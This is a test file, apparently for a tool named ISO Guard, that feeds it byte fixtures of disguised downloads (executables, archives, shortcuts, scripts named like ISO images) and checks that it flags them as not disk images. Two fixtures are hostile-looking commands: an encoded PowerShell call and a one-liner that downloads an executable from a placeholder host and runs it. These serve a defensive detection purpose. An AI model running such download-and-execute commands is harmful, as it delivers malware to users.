// Files that are no disk image, named by their first bytes; virtual disks recognised by their
// footer or signature. Table-driven: { desc, bytes, name, expected }.
import { describe, expect, it } from 'vitest';
import { inspect } from '../index.ts';
import { memorySource } from '../testing/sources.ts';

const bytes = (...parts: (string | number[] | Uint8Array)[]): Uint8Array => {
  const out: number[] = [];
  for (const p of parts) out.push(...(typeof p === 'string' ? [...p].map((c) => c.charCodeAt(0)) : p));
  return new Uint8Array(out);
};
const padded = (head: Uint8Array, size = 8192): Uint8Array => { const b = new Uint8Array(size); b.set(head); return b; };

const vhdFixed = (): Uint8Array => { const b = new Uint8Array(1024 * 1024 + 512); b.set(bytes('conectix'), 1024 * 1024); return b; };

const CASES: { desc: string; data: Uint8Array; name: string; format: string; verdict: string; detail: RegExp }[] = [
  { desc: 'a Windows program', data: padded(bytes('MZ', [0x90, 0, 3])), name: 'Windows12.iso.exe', format: 'program', verdict: 'not-a-disk-image', detail: /Windows program \(PE/ },
  { desc: 'a ZIP archive', data: padded(bytes('PK', [3, 4, 20, 0])), name: 'win12.zip', format: 'archive', verdict: 'not-a-disk-image', detail: /ZIP archive/ },
  { desc: 'a 7z archive', data: padded(bytes('7z', [0xbc, 0xaf, 0x27, 0x1c, 0, 4])), name: 'win12.7z', format: 'archive', verdict: 'not-a-disk-image', detail: /7-Zip/ },
  { desc: 'a RAR archive', data: padded(bytes('Rar!', [0x1a, 7, 1, 0])), name: 'win12.rar', format: 'archive', verdict: 'not-a-disk-image', detail: /RAR/ },
  { desc: 'a cabinet', data: padded(bytes('MSCF', [0, 0, 0, 0])), name: 'update.cab', format: 'archive', verdict: 'not-a-disk-image', detail: /cabinet/ },
  { desc: 'a shortcut', data: padded(bytes([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46])), name: 'Windows 12.iso.lnk', format: 'shortcut', verdict: 'not-a-disk-image', detail: /shortcut/ },
  { desc: 'a batch script', data: bytes('@echo off\r\npowershell -EncodedCommand SQBFAFgA\r\n'), name: 'install.iso', format: 'script', verdict: 'not-a-disk-image', detail: /a script/ },
  { desc: 'a PowerShell script by its words', data: bytes('$u="http://x";Invoke-WebRequest $u -OutFile a.exe; Start-Process a.exe'), name: 'readme.txt', format: 'script', verdict: 'not-a-disk-image', detail: /a script/ },
  { desc: 'a VHDX', data: padded(bytes('vhdxfile', [0, 0])), name: 'win.vhdx', format: 'vhdx', verdict: 'unreadable', detail: /VHDX virtual hard disk.*does not read the file system/ },
  { desc: 'a fixed VHD (footer at the end)', data: vhdFixed(), name: 'win.vhd', format: 'vhd', verdict: 'unreadable', detail: /VHD virtual hard disk/ },
  { desc: 'plain text that is nothing', data: bytes('hello, this is a note about nothing in particular'), name: 'note.iso', format: 'unknown', verdict: 'not-a-disk-image', detail: /no disk image ISO Guard knows/ },
];

describe('files named by their magic bytes', () => {
  for (const c of CASES) {
    it(c.desc, async () => {
      const result = await inspect(memorySource(c.data), `/downloads/${c.name}`);
      expect(result).toMatchObject({ file: c.name, format: c.format, verdict: c.verdict, windows: null, label: null });
      expect(result.findings[0]?.detail).toMatch(c.detail);
    });
  }
});
